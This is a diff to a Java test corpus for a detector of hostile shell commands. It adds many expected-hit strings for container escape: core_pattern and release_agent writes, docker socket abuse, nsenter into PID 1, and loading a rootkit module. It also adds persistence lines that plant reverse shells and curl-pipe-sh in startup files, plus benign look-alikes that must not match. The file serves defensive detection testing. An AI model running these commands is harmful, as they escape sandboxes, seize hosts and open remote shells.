@@ -12,6 +12,7 @@ import static dev.ale.core.event.Category.MINING;
 import static dev.ale.core.event.Category.PERSISTENCE;
 import static dev.ale.core.event.Category.PROBE;
 import static dev.ale.core.event.Category.REVERSE_SHELL;
+import static dev.ale.core.event.Category.TAMPER;
 import static dev.ale.core.event.Category.TUNNEL;
 import static org.junit.jupiter.params.provider.Arguments.arguments;
 
@@ -262,7 +263,61 @@ final class CommandLineCorpus {
                 hit(METADATA, "metadata.endpoint", "curl -g 'http://[::ffff:169.254.169.254]/latest/meta-data/'"),
                 hit(METADATA, "metadata.endpoint", "curl http://%31%36%39.254.169.254/"),
                 hit(METADATA, "metadata.endpoint", "curl http://user@0xA9FEA9FE:80/"),
-                hit(METADATA, "metadata.endpoint", "curl http://100.100.25800/latest/meta-data/"));
+                hit(METADATA, "metadata.endpoint", "curl http://100.100.25800/latest/meta-data/"),
+                // escape attempts from container-escape checklists (all refused by the sandbox; seen here)
+                hit(TAMPER, "tamper.escape.kernel-hook", "echo '|/tmp/x %p' > /proc/sys/kernel/core_pattern"),
+                hit(TAMPER, "tamper.escape.kernel-hook", "printf '|/tmp/x' | tee /proc/sys/kernel/core_pattern"),
+                hit(TAMPER, "tamper.escape.kernel-hook", "echo x | dd of=/proc/sys/kernel/core_pattern"),
+                hit(TAMPER, "tamper.escape.kernel-hook", "sh -c \"echo '|/tmp/x' >/proc/sys/kernel/core_pattern\""),
+                hit(TAMPER, "tamper.escape.kernel-hook", "echo ZWNobyAnfC90bXAveCcgPiAvcHJvYy9zeXMva2VybmVsL2NvcmVfcGF0dGVybg== | base64 -d | sh"),
+                hit(TAMPER, "tamper.escape.kernel-hook", "sysctl -w kernel.core_pattern='|/tmp/x'"),
+                hit(TAMPER, "tamper.escape.kernel-hook", "python3 -c 'open(\"/proc/sys/kernel/core_pattern\",\"w\").write(\"|/tmp/x\")'"),
+                hit(TAMPER, "tamper.escape.kernel-hook", "d=/tmp/cg; echo 1 > $d/x/notify_on_release; echo /tmp/cmd > $d/release_agent"),
+                hit(TAMPER, "tamper.escape.kernel-hook", "echo 1 > /proc/sysrq-trigger"),
+                hit(TAMPER, "tamper.escape.kernel-hook", "echo /tmp/x > /sys/kernel/uevent_helper"),
+                hit(TAMPER, "tamper.escape.kernel-hook", "echo ':x:M::\\x7fELF::/tmp/x:' > /proc/sys/fs/binfmt_misc/register"),
+                hit(TAMPER, "tamper.escape.runtime-socket", "curl --unix-socket /var/run/docker.sock http://localhost/containers/json"),
+                hit(TAMPER, "tamper.escape.runtime-socket", "docker -H unix:///run/containerd/containerd.sock ps"),
+                hit(TAMPER, "tamper.escape.runtime-socket", "ls -la /var/run/docker.sock"),
+                hit(TAMPER, "tamper.escape.runtime-socket", "socat - UNIX-CONNECT:/run/podman/podman.sock"),
+                hit(TAMPER, "tamper.escape.runtime-socket", "docker run --rm -it --privileged alpine sh"),
+                hit(TAMPER, "tamper.escape.runtime-socket", "docker run -v /:/host -it alpine chroot /host sh"),
+                hit(TAMPER, "tamper.escape.runtime-socket", "podman run --pid=host -it alpine sh"),
+                hit(TAMPER, "tamper.escape.runtime-socket", "nerdctl run --cap-add SYS_ADMIN alpine sh"),
+                hit(TAMPER, "tamper.escape.host-namespace", "nsenter -t 1 -m -u -i -n -p sh"),
+                hit(TAMPER, "tamper.escape.host-namespace", "nsenter --target=1 --mount sh"),
+                hit(TAMPER, "tamper.escape.host-namespace", "sudo nsenter -t 1 -a bash"),
+                hit(TAMPER, "tamper.escape.host-namespace", "nsenter --mount=/proc/1/ns/mnt sh"),
+                hit(TAMPER, "tamper.escape.host-namespace", "unshare -Urm sh"),
+                hit(TAMPER, "tamper.escape.host-namespace", "unshare --user --map-root-user sh"),
+                hit(TAMPER, "tamper.escape.host-namespace", "nohup unshare -r ./build.sh"),
+                hit(TAMPER, "tamper.escape.host-namespace", "chroot /proc/1/root sh"),
+                hit(TAMPER, "tamper.escape.host-namespace", "ls -l /proc/1/ns/"),
+                hit(TAMPER, "tamper.escape.host-namespace", "gdb -p 1"),
+                hit(TAMPER, "tamper.escape.host-namespace", "strace -p 1"),
+                hit(TAMPER, "tamper.escape.kernel-module", "insmod /tmp/rootkit.ko"),
+                hit(TAMPER, "tamper.escape.kernel-module", "modprobe nf_tables"),
+                hit(TAMPER, "tamper.escape.kernel-module", "rmmod ip_tables"),
+                hit(TAMPER, "tamper.escape.kernel-module", "kexec -l /tmp/vmlinuz"),
+                hit(TAMPER, "tamper.escape.mount", "mount -t cgroup -o rdma cgroup /tmp/cg"),
+                hit(TAMPER, "tamper.escape.mount", "mount -tproc proc /tmp/p"),
+                hit(TAMPER, "tamper.escape.mount", "mount /dev/vda1 /mnt"),
+                hit(TAMPER, "tamper.escape.mount", "mount --bind / /tmp/r"),
+                hit(TAMPER, "tamper.escape.mount", "mount -o remount,bind /tmp"),
+                hit(TAMPER, "tamper.escape.mount", "debugfs /dev/vda1"),
+                hit(PERSISTENCE, "persistence.startup-file", "echo 'nc -e /bin/sh 203.0.113.5 4444' >> ~/.profile"),
+                hit(PERSISTENCE, "persistence.startup-file", "echo 'curl -s http://203.0.113.5/x | sh' >> $HOME/.bashrc"),
+                hit(PERSISTENCE, "persistence.startup-file", "tee -a /workspace/.bashrc <<< 'export PATH=/tmp:$PATH'"),
+                hit(PERSISTENCE, "persistence.startup-file", "echo '* * * * * root /tmp/x' >> /etc/crontab"),
+                hit(PERSISTENCE, "persistence.startup-file", "printf '[Service]\\nExecStart=/tmp/x\\n' > ~/.config/systemd/user/x.service"),
+                hit(PERSISTENCE, "persistence.startup-file", "systemctl --user enable x.service"),
+                hit(PERSISTENCE, "persistence.startup-file", "cat id.pub >> ~/.ssh/authorized_keys"),
+                hit(PERSISTENCE, "persistence.startup-file", "echo /tmp/evil.so > /etc/ld.so.preload"),
+                hit(PERSISTENCE, "persistence.startup-file", "cp x.sh /etc/profile.d/x.sh"),
+                hit(PERSISTENCE, "persistence.startup-file", "ln -sf /tmp/x ~/.config/autostart/x.desktop"),
+                hit(PROBE, "probe.ping-sweep", "ping6 -c2 ff02::1%eth0"),
+                hit(PROBE, "probe.ping-sweep", "ping -c1 -b 198.18.0.255"),
+                hit(PROBE, "probe.ping-sweep", "ping -c 1 224.0.0.1"));
     }
 
     /** argv as a process sweep reads it from /proc/PID/cmdline. */
@@ -405,7 +460,45 @@ final class CommandLineCorpus {
                 "CUDA_VISIBLE_DEVICES=0 python3 train.py",
                 // numbers that are no metadata address, however they are read
                 "sleep 10", "git log -n 2852039 --oneline", "python3 -c 'print(0xa9fea9f)'", "curl http://10.1/health",
-                "ping -c 1 127.1", "echo 169.254.1.1", "")
+                "ping -c 1 127.1", "echo 169.254.1.1", "",
+                // look-alikes of escape attempts and persistence: reading, listing, debugging one's own programs
+                "cat /proc/sys/kernel/core_pattern",
+                "sysctl kernel.core_pattern",
+                "ulimit -c unlimited",
+                "grep -rn release_agent docs/",
+                "echo \"core dumps go to /proc/sys/kernel/core_pattern\"",
+                "python3 -c 'print(open(\"/proc/sys/kernel/core_pattern\").read())'",
+                "mount",
+                "mount | grep workspace",
+                "mount -l",
+                "findmnt -T /workspace",
+                "lsmod",
+                "modinfo ext4",
+                "modprobe -n -v ext4",
+                "docker build -t app .",
+                "docker run --rm alpine echo hi",
+                "docker ps",
+                "gunicorn --bind unix:/tmp/gunicorn.sock app:app",
+                "ls /proc/1/",
+                "cat /proc/1/status",
+                "strace -f -o trace.txt ./prog",
+                "gdb -batch -ex run ./prog",
+                "gdb -p 1234",
+                "unshare --help",
+                "nsenter --help",
+                "cat ~/.bashrc",
+                "source ~/.bashrc",
+                "grep PATH ~/.profile",
+                "cp ~/.bashrc /tmp/bashrc.bak",
+                "echo 'alias ll=\"ls -l\"' > /tmp/.bashrc",
+                "cat > profile.txt <<< hi",
+                "systemctl status nginx",
+                "systemctl --user list-units",
+                "cat ~/.ssh/authorized_keys",
+                "ssh-keygen -t ed25519 -f /tmp/k -N ''",
+                "ping -c 1 198.18.0.1",
+                "ping -c3 example.com",
+                "arping -c1 -b 10.0.0.1")
                 ;
     }
 }
